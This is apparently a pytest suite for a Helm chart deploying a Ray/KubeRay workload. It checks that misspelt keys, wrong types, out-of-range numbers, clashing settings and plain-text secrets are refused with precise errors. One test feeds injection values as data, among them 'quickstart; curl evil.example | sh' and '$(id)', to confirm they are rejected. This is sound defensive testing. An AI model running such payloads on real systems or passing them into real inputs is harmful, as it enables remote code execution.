"""Bad values are refused with one error that names the key, and never print a secret."""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from typing import Any

import helm_python as helm
import pytest

Document = dict[str, Any]
Render = Callable[..., list[Document]]


def group(**changes: Any) -> Document:
    """Values with one worker group, good but for the changes."""
    amount = {"cpu": 2, "memory": "4Gi"}
    good = {"name": "cpu", "replicas": 2, "minReplicas": 1, "maxReplicas": 4}
    return {"cluster": {"workerGroups": [good | {"resources": {"requests": amount, "limits": amount}} | changes]}}


def refusal(chart: helm.Chart, values: Document, release: str = "quantfleet") -> list[str]:
    """Helm's findings on bad values: a template's one sentence, or the schema's list."""
    with pytest.raises((helm.HelmValuesError, helm.HelmRenderError)) as caught:
        chart.render(values, name=release)
    text = str(caught.value)
    if isinstance(caught.value, helm.HelmValuesError):
        return [line.removeprefix("- ") for line in text.splitlines() if line.startswith("- ")]
    return [text.partition("): ")[2]]


@pytest.mark.parametrize(
    ("values", "error"),
    [
        ({"rayjob": {}}, "at '': additional properties 'rayjob' not allowed"),
        ({"rayJob": {"recipes": "x"}}, "at '/rayJob': additional properties 'recipes' not allowed"),
        (group(minReplica=1), "at '/cluster/workerGroups/0': additional properties 'minReplica' not allowed"),
        ({"global": {"registry": "x"}}, "at '/global': maxProperties: got 1, want 0"),
    ],
)
def test_a_misspelt_key_is_refused(chart: helm.Chart, values: Document, error: str) -> None:
    assert refusal(chart, values) == [error]


@pytest.mark.parametrize(
    ("values", "error"),
    [
        (group(replicas=-1), "at '/cluster/workerGroups/0/replicas': minimum: got -1, want 0"),
        (group(minReplicas=-1), "at '/cluster/workerGroups/0/minReplicas': minimum: got -1, want 0"),
        ({"rayJob": {"backoffLimit": -1}}, "at '/rayJob/backoffLimit': minimum: got -1, want 0"),
        ({"rayJob": {"activeDeadlineSeconds": 0}}, "at '/rayJob/activeDeadlineSeconds': minimum: got 0, want 1"),
        ({"podSecurity": {"runAsUser": 0}}, "at '/podSecurity/runAsUser': minimum: got 0, want 1"),
        (
            {"cluster": {"autoscaling": {"idleTimeoutSeconds": 0}}},
            "at '/cluster/autoscaling/idleTimeoutSeconds': minimum: got 0, want 1",
        ),
    ],
)
def test_a_number_out_of_range_is_refused(chart: helm.Chart, values: Document, error: str) -> None:
    assert refusal(chart, values) == [error]


@pytest.mark.parametrize(
    ("values", "error"),
    [
        (group(replicas="2"), "at '/cluster/workerGroups/0/replicas': got string, want integer"),
        (group(replicas=1.5), "at '/cluster/workerGroups/0/replicas': got number, want integer"),
        ({"rayJob": {"enabled": "yes"}}, "at '/rayJob/enabled': got string, want boolean"),
        ({"storage": "s3://bucket"}, "at '/storage': got string, want object"),
        ({"extraEnv": {"OMP_NUM_THREADS": 4}}, "at '/extraEnv/OMP_NUM_THREADS': got number, want string"),
        ({"ray": {"version": 2.6}}, "at '/ray/version': got number, want string"),
    ],
)
def test_a_wrong_type_is_refused(chart: helm.Chart, values: Document, error: str) -> None:
    assert refusal(chart, values) == [error]


@pytest.mark.parametrize(
    ("values", "key"),
    [
        ({"rayJob": {"submissionMode": "SidecarMode"}}, "/rayJob/submissionMode"),
        ({"image": {"pullPolicy": "Sometimes"}}, "/image/pullPolicy"),
        ({"ray": {"auth": {"mode": "none"}}}, "/ray/auth/mode"),
        ({"image": {"digest": "sha256:abc"}}, "/image/digest"),
        ({"image": {"repository": "quantfleet:latest"}}, "/image/repository"),
        ({"storage": {"root": "/mnt/disk"}}, "/storage/root"),
        ({"storage": {"root": ""}}, "/storage/root"),
        ({"rayJob": {"recipe": "quickstart; curl evil.example | sh"}}, "/rayJob/recipe"),
        ({"rayJob": {"recipe": "-h"}}, "/rayJob/recipe"),
        ({"rayJob": {"overrides": ["a.b=$(id)"]}}, "/rayJob/overrides/0"),
        ({"rayJob": {"overrides": ["no-equals-sign"]}}, "/rayJob/overrides/0"),
        ({"envFromSecrets": ["Not_A_Name"]}, "/envFromSecrets/0"),
        (group(resources={"requests": {"cpu": "two", "memory": "1Gi"}, "limits": {"cpu": 2, "memory": "1Gi"}}), "/cpu"),
    ],
)
def test_a_text_of_the_wrong_form_is_refused(chart: helm.Chart, values: Document, key: str) -> None:
    (error,) = refusal(chart, values)
    assert f"{key}':" in error


def test_resources_without_limits_are_refused(chart: helm.Chart) -> None:
    (error,) = refusal(chart, group(resources={"requests": {"cpu": 1, "memory": "1Gi"}}))
    assert error == "at '/cluster/workerGroups/0/resources': missing property 'limits'"


@pytest.mark.parametrize(
    ("values", "error"),
    [
        (
            group(minReplicas=3, maxReplicas=2),
            "cluster.workerGroups[0] (cpu): minReplicas=3 is larger than maxReplicas=2. "
            "Set minReplicas <= maxReplicas.",
        ),
        (
            group(replicas=9),
            "cluster.workerGroups[0] (cpu): replicas=9 is outside minReplicas=1 to maxReplicas=4. "
            "Set minReplicas <= replicas <= maxReplicas.",
        ),
        (
            {"cluster": {"workerGroups": group()["cluster"]["workerGroups"] * 2}},
            "cluster.workerGroups[1] (cpu): another group has this name already. Give every group its own.",
        ),
        (
            {"cluster": {"workerGroups": []}},
            "cluster.head.numCpus=0 and no worker in cluster.workerGroups: no node would run any work. "
            "Raise one of the two.",
        ),
        (
            {"ray": {"version": "2.51.1"}},
            "ray.version=2.51.1 knows no token authentication. Use Ray 2.52.0 or newer.",
        ),
        (
            {"ray": {"auth": {"mode": "disabled"}}, "networkPolicy": {"enabled": False}},
            "ray.auth.mode=disabled together with networkPolicy.enabled=false lets every pod of the Kubernetes cluster "
            "run code in Ray. Keep one of the two on.",
        ),
        (
            {"extraEnv": {"QUANTFLEET_STORAGE__ROOT": "s3://other"}},
            "extraEnv.QUANTFLEET_STORAGE__ROOT is set by the chart already. Use storage.* or registry.* for it.",
        ),
        (
            {"storage": {"endpointUrl": "s3.example.com"}},
            'storage.endpointUrl="s3.example.com" is not an address of the form http(s)://host[:port][/path].',
        ),
        (
            {"rayJob": {"runName": "a" * 45}},
            f'RayJob name "quantfleet-{"a" * 45}" has 56 characters, KubeRay takes at most 47. '
            "Set a shorter rayJob.runName or fullnameOverride.",
        ),
    ],
)
def test_values_that_do_not_fit_each_other_are_refused(chart: helm.Chart, values: Document, error: str) -> None:
    assert refusal(chart, values) == [error]


def test_the_standing_cluster_is_checked_as_well_as_the_job(chart: helm.Chart) -> None:
    standing = {"rayJob": {"enabled": False}, "rayCluster": {"enabled": True}}
    (error,) = refusal(chart, group(minReplicas=3, maxReplicas=2) | standing)
    assert "minReplicas=3 is larger than maxReplicas=2" in error


def test_a_release_name_that_cannot_name_a_ray_cluster_is_refused_until_overridden(
    chart: helm.Chart, render: Render
) -> None:
    (error,) = refusal(chart, {}, release="2024-run")
    assert error == (
        '"2024-run-quantfleet" cannot name a Ray cluster: start with a letter, then letters, digits and dashes. '
        "Set fullnameOverride."
    )
    assert render({"fullnameOverride": "run-2024"}, release="2024-run")


PLAIN_SECRET = "hunter2-AKIAIOSFODNN7"


@pytest.mark.parametrize(
    ("values", "error"),
    [
        (
            {"storage": {"secretAccessKey": PLAIN_SECRET}},
            "at '/storage': additional properties 'secretAccessKey' not allowed",
        ),
        (
            {"storage": {"credentialsSecret": {"value": PLAIN_SECRET}}},
            "at '/storage/credentialsSecret': additional properties 'value' not allowed",
        ),
        (
            {"registry": {"password": PLAIN_SECRET}},
            "at '/registry': additional properties 'password' not allowed",
        ),
        ({"ray": {"auth": {"token": PLAIN_SECRET}}}, "at '/ray/auth': additional properties 'token' not allowed"),
        (
            {"extraEnv": {"AWS_SECRET_ACCESS_KEY": PLAIN_SECRET}},
            "at '/extraEnv/AWS_SECRET_ACCESS_KEY': value must be 'in a Secret that envFromSecrets names'",
        ),
        (
            {"extraEnv": {"RAY_AUTH_TOKEN": PLAIN_SECRET}},
            "at '/extraEnv/RAY_AUTH_TOKEN': value must be 'in a Secret that envFromSecrets names'",
        ),
        (
            {"extraEnv": {"DATABASE_URL": f"postgresql://me:{PLAIN_SECRET}@db/mlflow"}},
            "extraEnv.DATABASE_URL holds a user or password, and Helm keeps values as plain text. "
            "Put the address in a Secret and name that in envFromSecrets.",
        ),
        (
            {"registry": {"trackingUri": f"https://me:{PLAIN_SECRET}@mlflow.example.com"}},
            "registry.trackingUri holds a user or password, and Helm keeps values as plain text. "
            "Put the address in a Secret and name that in envFromSecrets.",
        ),
        (
            {"storage": {"endpointUrl": f"https://me:{PLAIN_SECRET}@s3.example.com"}},
            "storage.endpointUrl holds a user or password, and Helm keeps values as plain text. "
            "Put the address in a Secret and name that in envFromSecrets.",
        ),
    ],
)
def test_a_plain_text_secret_is_refused_and_not_repeated(chart: helm.Chart, values: Document, error: str) -> None:
    assert refusal(chart, values) == [error]
    assert PLAIN_SECRET not in error


# The schema itself


def objects(schema: Any, path: str = "") -> Iterator[tuple[str, Document]]:
    """Every part of a schema that describes an object, with its path."""
    if isinstance(schema, dict):
        if schema.get("type") == "object":
            yield path, schema
        for key, child in schema.items():
            yield from objects(child, f"{path}/{key}")
    elif isinstance(schema, list):
        for index, child in enumerate(schema):
            yield from objects(child, f"{path}/{index}")


def test_the_schema_is_closed_at_every_level(chart: helm.Chart) -> None:
    assert chart.schema is not None
    for path, part in objects(chart.schema):
        if "properties" in part:
            assert part["additionalProperties"] is False, path
        else:
            free_form = isinstance(part.get("additionalProperties"), dict) or part.get("maxProperties") == 0
            assert free_form, f"{path} neither lists its keys nor says what its values are"


def test_every_key_of_the_schema_has_a_default_and_every_default_is_required(chart: helm.Chart) -> None:
    assert chart.schema is not None

    def compare(schema: Document, values: Any, path: str) -> None:
        if "properties" not in schema:
            return
        listed = schema["properties"].keys() - {"global"}
        assert listed == values.keys(), path
        assert listed == set(schema["required"]), path
        for key in listed:
            compare(schema["properties"][key], values[key], f"{path}/{key}")

    compare(chart.schema, chart.values, "")


def test_every_default_can_be_left_out_but_not_be_nulled(chart: helm.Chart) -> None:
    # Helm drops a key whose value is null; the schema says so, in place of a template error deep inside.
    for section in chart.values:
        (error,) = refusal(chart, copy.deepcopy({section: None}))
        assert error == f"at '': missing property '{section}'"
